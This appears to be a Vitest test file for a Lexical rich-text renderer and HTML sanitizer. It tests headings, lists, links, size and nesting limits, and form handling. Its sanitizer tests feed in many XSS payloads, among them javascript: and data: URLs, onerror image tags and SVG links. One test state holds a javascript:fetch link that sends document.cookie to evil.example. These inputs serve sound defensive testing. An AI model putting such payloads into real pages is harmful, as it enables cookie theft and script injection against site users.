import { readFileSync } from "node:fs";
import path from "node:path";
import { createHeadlessEditor } from "@lexical/headless";
import { withDOM } from "@lexical/headless/dom";
import { $createLinkNode } from "@lexical/link";
import { $createListItemNode, $createListNode } from "@lexical/list";
import { $createHeadingNode, $createQuoteNode } from "@lexical/rich-text";
import {
  $createLineBreakNode,
  $createParagraphNode,
  $createTextNode,
  $getRoot,
  type SerializedEditorState,
} from "lexical";
import { describe, expect, it } from "vitest";
import { richTextNodes } from "~/lexical/nodes";
import {
  isEmptyRichText,
  MAX_LIST_NESTING,
  MAX_NODE_DEPTH,
  MAX_RICH_TEXT_JSON_BYTES,
  MAX_RICH_TEXT_TEXT_LENGTH,
  renderRichText,
  RichTextError,
  richTextFromForm,
  richTextFromPlainText,
  shownTextDigest,
  type StoredRichText,
} from "~/lexical/render.server";
import { richTextClassesByTag, sanitizeRichTextHtml } from "~/lexical/sanitize.server";
import { richTextClassNames, richTextTheme } from "~/lexical/theme";
import { isAllowedUrl, linkFromInput } from "~/lexical/url";

/** Builds a state the way the browser editor does: the shared nodes, Lexical's own API. */
function buildState(build: () => void): SerializedEditorState {
  const editor = createHeadlessEditor({
    namespace: "test",
    nodes: [...richTextNodes],
    theme: richTextTheme,
    onError: (error) => {
      throw error;
    },
  });
  editor.update(build, { discrete: true });
  return editor.getEditorState().toJSON();
}

function paragraphWith(...texts: string[]) {
  return $createParagraphNode().append(...texts.map((text) => $createTextNode(text)));
}

interface ElementSummary {
  tag: string;
  attributes: Record<string, string>;
}

/** Parses HTML as a browser would and lists every element with its attributes. */
function elementsOf(html: string): ElementSummary[] {
  return withDOM((window) => {
    const template = window.document.createElement("template");
    template.innerHTML = html;
    return Array.from(template.content.querySelectorAll("*")).map((element) => ({
      tag: element.localName,
      attributes: Object.fromEntries(Array.from(element.attributes).map((a) => [a.name, a.value])),
    }));
  });
}

function expectNoExecutableContent(html: string) {
  const allowedTags = new Set([
    "p",
    "br",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "s",
    "code",
    "h2",
    "h3",
    "h4",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "span",
  ]);
  for (const { tag, attributes } of elementsOf(html)) {
    expect(allowedTags.has(tag), `tag <${tag}>`).toBe(true);
    for (const [name, value] of Object.entries(attributes)) {
      expect(["class", "href", "rel", "start"], `attribute ${name} on <${tag}>`).toContain(name);
      if (name === "href") expect(isAllowedUrl(value), `href ${value}`).toBe(true);
      if (name === "class") for (const token of value.split(" ")) expect(richTextClassNames.has(token)).toBe(true);
    }
  }
  expect(html).not.toMatch(/<script|javascript:|data:|about:blank|style=/i);
}

async function expectRichTextError(promise: Promise<unknown>, code: RichTextError["code"]) {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(RichTextError);
  expect((error as RichTextError).code).toBe(code);
}

function formOf(fields: Record<string, string>): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  return form;
}

describe("renderRichText", () => {
  const fullState = () =>
    buildState(() => {
      $getRoot().append(
        $createHeadingNode("h2").append($createTextNode("Lessons learned")),
        $createParagraphNode().append(
          $createTextNode("Queues fell ").toggleFormat("bold"),
          $createTextNode("by half "),
          $createTextNode("in a year").toggleFormat("italic"),
          $createTextNode(", see "),
          $createLinkNode("https://example.org/asan?x=1&y=2").append($createTextNode("the report")),
          $createTextNode("."),
        ),
        $createListNode("bullet").append(
          $createListItemNode().append($createTextNode("One roof")),
          $createListItemNode().append($createTextNode("Many agencies")),
        ),
        $createListNode("number").append(
          $createListItemNode().append($createTextNode("Plan")),
          $createListItemNode().append($createTextNode("Pilot")),
        ),
        $createQuoteNode().append($createTextNode("Service is a right.")),
      );
    });

  it("renders headings, formats, lists, quotes and links with the theme's classes", async () => {
    const { html, text, json } = await renderRichText(fullState());

    expect(html).toContain('<h2 class="rt-h2">Lessons learned</h2>');
    expect(html).toMatch(/<strong class="rt-bold">Queues fell <\/strong>/);
    expect(html).toMatch(/<em class="rt-italic">in a year<\/em>/);
    expect(html).toContain(
      '<ul class="rt-ul"><li class="rt-li">One roof</li><li class="rt-li">Many agencies</li></ul>',
    );
    expect(html).toContain('<ol class="rt-ol"><li class="rt-li">Plan</li><li class="rt-li">Pilot</li></ol>');
    expect(html).toContain('<blockquote class="rt-quote">Service is a right.</blockquote>');
    const link = elementsOf(html).find((element) => element.tag === "a");
    expect(link?.attributes).toEqual({
      href: "https://example.org/asan?x=1&y=2",
      class: "rt-link",
      rel: "noopener noreferrer",
    });
    expect(html).toMatch(/^<h2/);
    expectNoExecutableContent(html);

    expect(text).toBe(
      "Lessons learned\n\nQueues fell by half in a year, see the report.\n\nOne roof\nMany agencies\n\nPlan\nPilot\n\nService is a right.",
    );
    expect(json.root.children.map((node) => node.type)).toEqual(["heading", "paragraph", "list", "list", "quote"]);
  });

  it("accepts the JSON as a string and gives the same result twice (stored JSON re-renders alike)", async () => {
    const first = await renderRichText(JSON.stringify(fullState()));
    const second = await renderRichText(first.json);
    expect(second.html).toBe(first.html);
    expect(second.json).toEqual(first.json);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "/relative/path",
  ])("never yields an executable href for %j", async (url) => {
    const state = buildState(() => {
      $getRoot().append(
        $createParagraphNode().append(
          $createTextNode("before "),
          $createLinkNode(url).append($createTextNode("click me")),
          $createTextNode(" after"),
        ),
      );
    });
    const { html, json, text } = await renderRichText(state);
    expectNoExecutableContent(html);
    expect(elementsOf(html).some((element) => element.tag === "a")).toBe(false);
    expect(html).toContain("click me");
    expect(text).toBe("before click me after");
    // The stored JSON loses the link too, so the editor never shows it again.
    expect(JSON.stringify(json)).not.toContain('"type":"link"');
  });

  it("renders nested lists, one item per line in the text", async () => {
    const state = buildState(() => {
      $getRoot().append(
        $createListNode("bullet").append(
          $createListItemNode().append($createTextNode("Outer")),
          $createListItemNode().append(
            $createListNode("number").append($createListItemNode().append($createTextNode("Inner"))),
          ),
          $createListItemNode().append($createTextNode("Last")),
        ),
      );
    });
    const { html, text } = await renderRichText(state);
    expect(html).toBe(
      // Lexical nests the inner list inside the item before it, as HTML wants.
      '<ul class="rt-ul"><li class="rt-li">Outer<ol class="rt-ol"><li class="rt-li">Inner</li></ol></li>' +
        '<li class="rt-li">Last</li></ul>',
    );
    expect(text).toBe("Outer\nInner\nLast");
  });

  it("keeps mailto: and http: links", async () => {
    const state = buildState(() => {
      $getRoot().append(
        $createParagraphNode().append(
          $createLinkNode("mailto:desk@example.org").append($createTextNode("write")),
          $createLinkNode("http://example.org").append($createTextNode("visit")),
        ),
      );
    });
    const hrefs = elementsOf((await renderRichText(state)).html)
      .filter((element) => element.tag === "a")
      .map((element) => element.attributes.href);
    expect(hrefs).toEqual(["mailto:desk@example.org", "http://example.org"]);
  });

  it("escapes text: <script> stays text", async () => {
    const state = buildState(() => {
      $getRoot().append(paragraphWith('<script>alert(1)</script> & "quotes" <img src=x onerror=alert(1)>'));
    });
    const { html, text } = await renderRichText(state);
    expect(html).toBe(
      '<p class="rt-paragraph">&lt;script&gt;alert(1)&lt;/script&gt; &amp; "quotes" &lt;img src=x onerror=alert(1)&gt;</p>',
    );
    expect(elementsOf(html).map((element) => element.tag)).toEqual(["p"]);
    expect(text).toBe('<script>alert(1)</script> & "quotes" <img src=x onerror=alert(1)>');
  });

  it("neutralizes a hand-written malicious state", async () => {
    const malicious = {
      root: {
        type: "root",
        version: 1,
        direction: null,
        format: "",
        indent: 0,
        children: [
          {
            type: "heading",
            tag: "h1",
            version: 1,
            format: "center",
            indent: 3,
            children: [
              {
                type: "text",
                version: 1,
                text: "Title",
                format: 0,
                style: "position:fixed;inset:0",
                onclick: "alert(1)",
              },
            ],
          },
          {
            type: "paragraph",
            version: 1,
            children: [
              {
                type: "link",
                version: 1,
                url: "javascript:fetch('//evil.example?c='+document.cookie)",
                target: "_blank",
                children: [{ type: "text", version: 1, text: "harmless" }],
              },
              {
                type: "link",
                version: 1,
                url: "https://example.org/",
                target: "_blank",
                rel: "opener",
                title: '"><script>alert(1)</script>',
                children: [
                  {
                    type: "text",
                    version: 1,
                    text: "<b onmouseover=alert(1)>x</b>",
                    style: "background:url(javascript:alert(1))",
                  },
                ],
              },
            ],
          },
          {
            type: "list",
            listType: "check",
            tag: "ul",
            start: 1,
            version: 1,
            children: [
              {
                type: "listitem",
                version: 1,
                value: 1,
                checked: true,
                children: [{ type: "text", version: 1, text: "done" }],
              },
            ],
          },
        ],
      },
    };
    const { html, json } = await renderRichText(JSON.stringify(malicious));
    expectNoExecutableContent(html);
    expect(html).toBe(
      '<h2 class="rt-h2">Title</h2>' +
        '<p class="rt-paragraph">harmless<a href="https://example.org/" class="rt-link" rel="noopener noreferrer">&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;</a></p>' +
        '<ul class="rt-ul"><li class="rt-li">done</li></ul>',
    );
    const stored = JSON.stringify(json);
    expect(stored).not.toMatch(/javascript|onclick|position:fixed|"check"|"_blank"/);
  });

  it("throws RichTextError for an unknown node type", async () => {
    const state = buildState(() => {
      $getRoot().append(paragraphWith("hello"));
    }) as unknown as { root: { children: Array<{ children: unknown[] }> } };
    state.root.children[0]!.children.push({ type: "iframe", version: 1, src: "https://evil.example" });
    await expectRichTextError(renderRichText(state), "invalid_state");

    const topLevel = { root: { type: "root", version: 1, children: [{ type: "image", version: 1, src: "x" }] } };
    await expectRichTextError(renderRichText(JSON.stringify(topLevel)), "invalid_state");
  });

  it.each([
    ["not JSON", "{not json", "invalid_json"],
    ["empty string", "", "invalid_json"],
    ["truncated JSON", '{"root":{"children":[', "invalid_json"],
    ["a number", 42, "invalid_json"],
    ["null", null, "invalid_json"],
    ["JSON null", "null", "invalid_state"],
    ["an array", "[1,2,3]", "invalid_state"],
    ["no root", '{"foo":1}', "invalid_state"],
    ["root without children", '{"root":{"type":"root"}}', "invalid_state"],
    ["a wrong root type", '{"root":{"type":"paragraph","children":[]}}', "invalid_state"],
    [
      "text straight under the root",
      '{"root":{"type":"root","version":1,"children":[{"type":"text","text":"x","version":1}]}}',
      "invalid_state",
    ],
  ] as const)("throws RichTextError for garbage: %s", async (_label, input, code) => {
    await expectRichTextError(renderRichText(input), code);
  });

  it("refuses more than 100 000 characters of JSON", async () => {
    const long = buildState(() => {
      $getRoot().append(paragraphWith("x".repeat(MAX_RICH_TEXT_JSON_BYTES)));
    });
    await expectRichTextError(renderRichText(long), "too_long");
    await expectRichTextError(renderRichText(JSON.stringify(long)), "too_long");
    await expectRichTextError(renderRichText(" ".repeat(MAX_RICH_TEXT_JSON_BYTES + 1)), "too_long");
  });

  it("counts the JSON's limit in bytes: two-byte letters reach it with half as many characters", async () => {
    const letters = "ş".repeat(MAX_RICH_TEXT_JSON_BYTES / 2);
    const state = buildState(() => {
      $getRoot().append(paragraphWith(letters));
    });
    expect(JSON.stringify(state).length).toBeLessThan(MAX_RICH_TEXT_JSON_BYTES);
    await expectRichTextError(renderRichText(JSON.stringify(state)), "too_long");
    await expectRichTextError(renderRichText(state), "too_long");
  });

  it("strips control characters and lone surrogates, which PostgreSQL refuses, from the text", async () => {
    const state = buildState(() => {
      $getRoot().append(paragraphWith("a\u0000b\u0007c\u001Bd\u007Fe\u0085f \uD800g\uDC00h \uD83D\uDE00 i\tj"));
    });
    const { json, text, html } = await renderRichText(JSON.stringify(state));
    expect(text).toBe("abcdef gh \uD83D\uDE00 i\tj");
    expect(JSON.stringify(json)).not.toMatch(/\\u0000|\\ud800|\\udc00/i);
    expect(html).not.toContain("\u0000");
  });

  it("renders an empty state as empty", async () => {
    const empty = buildState(() => {});
    await expect(renderRichText(empty)).resolves.toMatchObject({ html: "", text: "" });
  });
});

/**
 * A state of `levels` lists, each inside an item of the one before, the innermost item holding
 * `leaf`. `compact` leaves out every optional property, so 1,000 levels fit the size limit.
 */
function nestedLists(levels: number, leaf: unknown[], compact = false): unknown {
  const item = (children: unknown[]) =>
    compact ? { type: "listitem", children } : { type: "listitem", version: 1, value: 1, children };
  const list = (children: unknown[]) =>
    compact
      ? { type: "list", listType: "bullet", children }
      : { type: "list", listType: "bullet", tag: "ul", start: 1, version: 1, children };
  let node = list([item(leaf)]);
  for (let level = 2; level <= levels; level++) node = list([item([node])]);
  return { root: { type: "root", version: 1, children: [node] } };
}

const textLeaf = [{ type: "text", version: 1, text: "deep" }];

describe("nesting depth", () => {
  it(`keeps lists nested ${MAX_LIST_NESTING} levels deep, with a link in the innermost item`, async () => {
    const link = {
      type: "link",
      version: 1,
      url: "https://example.org/",
      children: [{ type: "text", version: 1, text: "ok" }],
    };
    const { html, text } = await renderRichText(nestedLists(MAX_LIST_NESTING, [link]));
    // Every level is in the HTML (the first item of each list holds the next list).
    expect(html.match(/<ul /g)).toHaveLength(MAX_LIST_NESTING);
    expect(html).toContain('<a href="https://example.org/" class="rt-link" rel="noopener noreferrer">ok</a>');
    expect(text).toBe("ok");
  });

  it(`refuses lists nested ${MAX_LIST_NESTING + 1} levels deep, and 300 or 1,000 levels quickly`, async () => {
    await expectRichTextError(renderRichText(nestedLists(MAX_LIST_NESTING + 1, textLeaf)), "too_deep");
    for (const levels of [300, 1000]) {
      const json = JSON.stringify(nestedLists(levels, textLeaf, true));
      expect(Buffer.byteLength(json)).toBeLessThan(MAX_RICH_TEXT_JSON_BYTES);
      const started = performance.now();
      await expectRichTextError(renderRichText(json), "too_deep");
      expect(performance.now() - started).toBeLessThan(500);
    }
  });

  it(`refuses any node deeper than ${MAX_NODE_DEPTH} levels, lists or not`, async () => {
    let node: Record<string, unknown> = { type: "text", version: 1, text: "x" };
    for (let level = 0; level < 1000; level++) node = { type: "quote", version: 1, children: [node] };
    await expectRichTextError(renderRichText({ root: { type: "root", version: 1, children: [node] } }), "too_deep");

    let shallow: Record<string, unknown> = { type: "text", version: 1, text: "x" };
    for (let level = 0; level < MAX_NODE_DEPTH; level++)
      shallow = { type: "link", version: 1, url: "https://example.org", children: [shallow] };
    const tooDeep = {
      root: { type: "root", version: 1, children: [{ type: "paragraph", version: 1, children: [shallow] }] },
    };
    await expectRichTextError(renderRichText(tooDeep), "too_deep");
  });

  it("refuses JSON nested far beyond anything (a stack's worth of brackets) as too deep or not JSON", async () => {
    const brackets = `{"root":{"type":"root","children":[${"[".repeat(40_000)}${"]".repeat(40_000)}]}}`;
    const error = await renderRichText(brackets).then(
      () => null,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(RichTextError);
  });
});

describe("sanitizeRichTextHtml", () => {
  const dirty =
    '<p class="rt-paragraph evil" style="color:red" onclick="alert(1)" id="x">a' +
    "<script>alert(1)</script><img src=x onerror=alert(1)>" +
    '<a href="javascript:alert(1)">js</a><a href=" JAVASCRIPT:alert(1)">js2</a>' +
    '<a href="https://ok.example/" target="_blank" rel="opener">ok</a>' +
    '<svg><a href="javascript:alert(1)">svg</a></svg><math><mi>m</mi></math>' +
    "<iframe src=x></iframe><style>p{}</style><!-- comment -->" +
    '<font color="red">font</font><span style="white-space:pre-wrap">span</span>' +
    '<strong class="rt-bold">b</strong></p><ol start="3" reversed class="rt-ol"><li value="9">three</li></ol>';

  it("keeps only allowlisted tags, theme classes and safe links", () => {
    const clean = sanitizeRichTextHtml(dirty);
    expect(clean).toBe(
      '<p class="rt-paragraph">a<a>js</a><a>js2</a><a href="https://ok.example/" rel="noopener noreferrer">ok</a>font<span>span</span><strong class="rt-bold">b</strong></p>' +
        '<ol start="3" class="rt-ol"><li>three</li></ol>',
    );
  });

  it("is stable: sanitizing its own output changes nothing", () => {
    const once = sanitizeRichTextHtml(dirty);
    const twice = sanitizeRichTextHtml(once);
    expect(twice).toBe(once);
  });
});

describe("sanitizeRichTextHtml: the allow-list", () => {
  it("allows every class the theme can produce, on the tags Lexical puts it on, and no other", () => {
    const allowed = new Set(Object.values(richTextClassesByTag).flat());
    expect([...allowed].sort()).toEqual([...richTextClassNames].sort());
    expect(Object.keys(richTextClassesByTag).sort()).toEqual([
      "a",
      "b",
      "blockquote",
      "br",
      "code",
      "em",
      "h2",
      "h3",
      "h4",
      "i",
      "li",
      "ol",
      "p",
      "s",
      "span",
      "strong",
      "u",
      "ul",
    ]);
  });

  it("passes what the renderer produces unchanged", async () => {
    const state = buildState(() => {
      $getRoot().append(
        $createHeadingNode("h3").append($createTextNode("Heading")),
        $createParagraphNode().append(
          $createTextNode("bold").toggleFormat("bold"),
          $createTextNode("both").toggleFormat("bold").toggleFormat("italic"),
          $createTextNode("under").toggleFormat("underline"),
          $createTextNode("struck").toggleFormat("strikethrough"),
          $createTextNode("code").toggleFormat("code"),
          $createLineBreakNode(),
          $createLinkNode("mailto:desk@example.org").append($createTextNode("mail")),
        ),
        $createListNode("number", 3).append(
          $createListItemNode().append($createTextNode("three")),
          $createListItemNode().append(
            $createListNode("bullet").append($createListItemNode().append($createTextNode("in"))),
          ),
        ),
        $createQuoteNode().append($createTextNode("quoted")),
      );
    });
    const { html } = await renderRichText(state);
    expect(sanitizeRichTextHtml(html)).toBe(html);
    expect(html).toContain('<ol start="3" class="rt-ol">');
    expect(html).toContain('<a href="mailto:desk@example.org" class="rt-link" rel="noopener noreferrer">mail</a>');
  });

  // A link refused is kept as an inert <a> with no attribute: not a link, not focusable.
  it.each([
    ["a javascript: link", '<a href="javascript:alert(1)" class="rt-link">x</a>', "<a>x</a>"],
    ["an odd-cased scheme", '<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"],
    ["an entity-encoded scheme", '<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"],
    ["a scheme split by a tab", '<a href="java&#9;script:alert(1)">x</a>', "<a>x</a>"],
    ["a data: link", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"],
    ["a vbscript: link", '<a href="VBSCRIPT:msgbox(1)">x</a>', "<a>x</a>"],
    ["a relative link", '<a href="/admin/users">x</a>', "<a>x</a>"],
    ["a protocol-relative link", '<a href="//evil.example/">x</a>', "<a>x</a>"],
    ["a link without an address", '<a name="x">x</a>', "<a>x</a>"],
    [
      "a link's target, rel and title",
      '<a href="https://ok.example/" target="_blank" rel="opener" title="t" class="rt-link evil">x</a>',
      '<a href="https://ok.example/" class="rt-link" rel="noopener noreferrer">x</a>',
    ],
    [
      "event handlers",
      '<p class="rt-paragraph" onclick="alert(1)" onmouseover="x">x</p>',
      '<p class="rt-paragraph">x</p>',
    ],
    ["style attributes", '<span style="position:fixed" class="rt-bold">x</span>', '<span class="rt-bold">x</span>'],
    ["a class in the wrong place", '<p class="rt-h2 rt-bold rt-paragraph">x</p>', '<p class="rt-paragraph">x</p>'],
    ["classes outside the theme", '<strong class="evil">x</strong>', "<strong>x</strong>"],
    ["a script", "<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"],
    ["a style element", "<style>p{}</style>x", "x"],
    ["an image with onerror", "<img src=x onerror=alert(1)>x", "x"],
    ["an iframe", '<iframe src="https://evil.example"></iframe>x', "x"],
    ["svg", '<svg><a href="javascript:alert(1)">s</a></svg>x', "x"],
    ["unknown tags", "<font color=red>a</font><marquee>b</marquee><h1>c</h1><div>d</div>", "abcd"],
    ["a comment", "a<!-- <script>alert(1)</script> -->b", "ab"],
    [
      "an odd ol start",
      '<ol start="-1" reversed type="a" class="rt-ol"><li value="9">x</li></ol>',
      '<ol class="rt-ol"><li>x</li></ol>',
    ],
    [
      "text that looks like markup",
      "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
      "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ],
  ])("removes %s", (_label, input, expected) => {
    const clean = sanitizeRichTextHtml(input);
    expect(clean).toBe(expected);
    expectNoExecutableContent(clean);
  });
});

describe("richTextFromPlainText", () => {
  it("splits paragraphs on blank lines and keeps line breaks", async () => {
    const input = "First line\nsecond line\n\n\nSecond paragraph\r\n   \r\nThird <b>bold?</b> &amp;\n";
    const json = richTextFromPlainText(input);
    expect(json.root.children.map((node) => node.type)).toEqual(["paragraph", "paragraph", "paragraph"]);

    // Identical to what the editor builds for the same text.
    const fromEditor = buildState(() => {
      $getRoot().append(
        $createParagraphNode().append(
          $createTextNode("First line"),
          $createLineBreakNode(),
          $createTextNode("second line"),
        ),
        paragraphWith("Second paragraph"),
        paragraphWith("Third <b>bold?</b> &amp;"),
      );
    });
    expect(json).toEqual(fromEditor);

    const { html, text } = await renderRichText(json);
    expect(html).toBe(
      '<p class="rt-paragraph">First line<br />second line</p>' +
        '<p class="rt-paragraph">Second paragraph</p>' +
        '<p class="rt-paragraph">Third &lt;b&gt;bold?&lt;/b&gt; &amp;amp;</p>',
    );
    expect(text).toBe("First line\nsecond line\n\nSecond paragraph\n\nThird <b>bold?</b> &amp;");
    // Plain text → rich text → plain text gives the text back.
    expect(richTextFromPlainText(text)).toEqual(json);
  });

  it("gives an empty state for blank text", () => {
    expect(richTextFromPlainText("").root.children).toEqual([]);
    expect(richTextFromPlainText(" \n\n \t\n").root.children).toEqual([]);
    expect(isEmptyRichText(richTextFromPlainText("\n\n"))).toBe(true);
  });
});

describe("richTextFromForm", () => {
  it("reads the editor's JSON (format lexical)", async () => {
    const state = buildState(() => {
      $getRoot().append(paragraphWith("From the editor"));
    });
    const result = await richTextFromForm(
      formOf({ lessons: JSON.stringify(state), lessonsFormat: "lexical" }),
      "lessons",
    );
    expect(result?.html).toBe('<p class="rt-paragraph">From the editor</p>');
    expect(result?.text).toBe("From the editor");
  });

  it("reads the textarea's text (format text, or no format at all)", async () => {
    const text = "No JavaScript here.\nSecond line.\n\n<script>x</script>";
    const submissions: Array<Record<string, string>> = [{ lessons: text, lessonsFormat: "text" }, { lessons: text }];
    for (const fields of submissions) {
      const result = await richTextFromForm(formOf(fields), "lessons");
      expect(result?.html).toBe(
        '<p class="rt-paragraph">No JavaScript here.<br />Second line.</p><p class="rt-paragraph">&lt;script&gt;x&lt;/script&gt;</p>',
      );
      expect(result?.json).toEqual(richTextFromPlainText(text));
    }
  });

  it("treats JSON typed into the textarea as text, not as a state", async () => {
    const typed = '{"root":{"type":"root","children":[]}}';
    const result = await richTextFromForm(formOf({ lessons: typed, lessonsFormat: "text" }), "lessons");
    expect(result?.text).toBe(typed);
  });

  it("returns null when nothing was written", async () => {
    const emptyState = JSON.stringify(buildState(() => {}));
    const blankParagraph = JSON.stringify(
      buildState(() => {
        $getRoot().append($createParagraphNode(), paragraphWith("   "));
      }),
    );
    await expect(richTextFromForm(formOf({}), "lessons")).resolves.toBeNull();
    await expect(richTextFromForm(formOf({ lessons: "", lessonsFormat: "text" }), "lessons")).resolves.toBeNull();
    await expect(
      richTextFromForm(formOf({ lessons: "  \n\n ", lessonsFormat: "text" }), "lessons"),
    ).resolves.toBeNull();
    await expect(
      richTextFromForm(formOf({ lessons: emptyState, lessonsFormat: "lexical" }), "lessons"),
    ).resolves.toBeNull();
    await expect(
      richTextFromForm(formOf({ lessons: blankParagraph, lessonsFormat: "lexical" }), "lessons"),
    ).resolves.toBeNull();
    const file = new FormData();
    file.append("lessons", new Blob(["x"]), "x.txt");
    await expect(richTextFromForm(file, "lessons")).resolves.toBeNull();
  });

  it(`refuses plain text over ${MAX_RICH_TEXT_TEXT_LENGTH} characters before converting it (10 MB at once)`, async () => {
    const started = performance.now();
    const error = await richTextFromForm(
      formOf({ lessons: "word ".repeat(2_000_000), lessonsFormat: "text" }),
      "lessons",
    ).then(
      () => null,
      (caught: unknown) => caught,
    );
    expect(performance.now() - started).toBeLessThan(1000);
    expect(error).toBeInstanceOf(RichTextError);
    expect((error as RichTextError).code).toBe("too_long");
    expect((error as RichTextError).max).toBe(MAX_RICH_TEXT_TEXT_LENGTH);
    await expect(
      richTextFromForm(formOf({ lessons: "x".repeat(MAX_RICH_TEXT_TEXT_LENGTH), lessonsFormat: "text" }), "lessons"),
    ).resolves.toMatchObject({ text: "x".repeat(MAX_RICH_TEXT_TEXT_LENGTH) });
  });

  it("refuses editor JSON over the limit before parsing it", async () => {
    const started = performance.now();
    await expectRichTextError(
      richTextFromForm(formOf({ lessons: `"${"x".repeat(10_000_000)}"`, lessonsFormat: "lexical" }), "lessons"),
      "too_long",
    );
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it("rejects invalid editor JSON with RichTextError", async () => {
    await expectRichTextError(
      richTextFromForm(formOf({ lessons: "{oops", lessonsFormat: "lexical" }), "lessons"),
      "invalid_json",
    );
  });
});

describe("richTextFromForm without JavaScript: an unchanged text keeps the stored formatting", () => {
  async function storedLessons(): Promise<StoredRichText> {
    const rendered = await renderRichText(
      buildState(() => {
        $getRoot().append(
          $createParagraphNode().append(
            $createTextNode("Book the venue ").toggleFormat("bold"),
            $createLinkNode("https://example.org/venues").append($createTextNode("early")),
          ),
          $createListNode("bullet").append(
            $createListItemNode().append($createTextNode("Agenda")),
            $createListItemNode().append($createTextNode("Minutes")),
          ),
        );
      }),
    );
    return { json: JSON.parse(JSON.stringify(rendered.json)) as unknown, html: rendered.html, text: rendered.text };
  }

  /** What the textarea posts: the text as shown (browsers send CRLF), its digest and format "text". */
  const posted = (text: string, shown: string) =>
    formOf({ lessons: text.replace(/\n/g, "\r\n"), lessonsFormat: "text", lessonsShown: shown });

  it("returns the stored state itself when the text is the one shown", async () => {
    const stored = await storedLessons();
    expect(stored.text).toBe("Book the venue early\n\nAgenda\nMinutes");
    let asked = 0;
    const result = await richTextFromForm(posted(stored.text, shownTextDigest(stored.text)), "lessons", async () => {
      asked++;
      return stored;
    });
    expect(asked).toBe(1);
    expect(result).toBe(stored);
    expect(result?.html).toContain('<strong class="rt-bold">');
    expect(result?.html).toContain('href="https://example.org/venues"');
    expect(result?.html).toContain("<ul");
  });

  it("saves a changed text as plain text, without asking for the stored state", async () => {
    const stored = await storedLessons();
    let asked = 0;
    const changed = `${stored.text}\nFollow-up`;
    const result = await richTextFromForm(posted(changed, shownTextDigest(stored.text)), "lessons", async () => {
      asked++;
      return stored;
    });
    expect(asked).toBe(0);
    expect(result?.text).toBe("Book the venue early\n\nAgenda\nMinutes\nFollow-up");
    expect(result?.html).not.toContain("<strong");
  });

  it("does not keep a stored state whose text is no longer the one shown (or none at all)", async () => {
    const stored = await storedLessons();
    const shownText = "An older text";
    const result = await richTextFromForm(posted(shownText, shownTextDigest(shownText)), "lessons", async () => stored);
    expect(result?.text).toBe(shownText);
    const gone = await richTextFromForm(posted(shownText, shownTextDigest(shownText)), "lessons", async () => null);
    expect(gone?.text).toBe(shownText);
  });

  it("ignores a wrong or missing digest, and the digest when the editor sent JSON", async () => {
    const stored = await storedLessons();
    for (const shown of ["", "not-a-digest"]) {
      const result = await richTextFromForm(posted(stored.text, shown), "lessons", async () => stored);
      expect(result).not.toBe(stored);
      expect(result?.html).not.toContain("<strong");
    }
    const fromEditor = await richTextFromForm(
      formOf({
        lessons: JSON.stringify(richTextFromPlainText("typed")),
        lessonsFormat: "lexical",
        lessonsShown: shownTextDigest(stored.text),
      }),
      "lessons",
      async () => stored,
    );
    expect(fromEditor?.text).toBe("typed");
  });

  it("an emptied textarea removes the lessons", async () => {
    const stored = await storedLessons();
    await expect(
      richTextFromForm(posted("", shownTextDigest(stored.text)), "lessons", async () => stored),
    ).resolves.toBeNull();
  });
});

describe("isEmptyRichText", () => {
  it("finds visible text only", () => {
    expect(isEmptyRichText(null)).toBe(true);
    expect(isEmptyRichText({})).toBe(true);
    expect(isEmptyRichText(buildState(() => {}))).toBe(true);
    expect(
      isEmptyRichText(buildState(() => void $getRoot().append($createParagraphNode().append($createLineBreakNode())))),
    ).toBe(true);
    expect(
      isEmptyRichText(
        buildState(() => void $getRoot().append($createListNode("bullet").append($createListItemNode()))),
      ),
    ).toBe(true);
    expect(isEmptyRichText(buildState(() => void $getRoot().append(paragraphWith("x"))))).toBe(false);
    expect(
      isEmptyRichText(buildState(() => void $getRoot().append($createQuoteNode().append($createTextNode(" y "))))),
    ).toBe(false);
  });
});

describe("link addresses", () => {
  it("allows http(s) and mailto only", () => {
    expect(isAllowedUrl("https://example.org")).toBe(true);
    expect(isAllowedUrl("mailto:a@example.org")).toBe(true);
    expect(isAllowedUrl("javascript:alert(1)")).toBe(false);
    expect(isAllowedUrl("  JaVaScRiPt:alert(1)")).toBe(false);
    expect(isAllowedUrl("ftp://example.org")).toBe(false);
    expect(isAllowedUrl("example.org")).toBe(false);
  });

  it("completes what people type in the link form", () => {
    expect(linkFromInput("example.org/page")).toBe("https://example.org/page");
    expect(linkFromInput("desk@example.org")).toBe("mailto:desk@example.org");
    expect(linkFromInput("https://example.org")).toBe("https://example.org");
    expect(linkFromInput("javascript:alert(1)")).toBeNull();
    expect(linkFromInput("data:text/html,x")).toBeNull();
    expect(linkFromInput("not a link")).toBeNull();
    expect(linkFromInput("   ")).toBeNull();
  });
});

describe("bundles", () => {
  const source = (file: string) => readFileSync(path.join(import.meta.dirname, "../../app/lexical", file), "utf8");
  const staticImports = (code: string) =>
    [...code.matchAll(/^import\s+(?!type\b)[^;]*?from\s+"([^"]+)"/gm)].map((match) => match[1]);

  it("keeps Lexical out of read-only pages and the editor out of the field's static imports", () => {
    expect(staticImports(source("rich-text.tsx")).filter((name) => name?.includes("lexical"))).toEqual([]);
    const field = staticImports(source("rich-text-field.tsx"));
    expect(field.filter((name) => name?.includes("lexical") || name?.includes("editor.client"))).toEqual([]);
    expect(source("rich-text-field.tsx")).toContain('import("./editor.client")');
  });
});
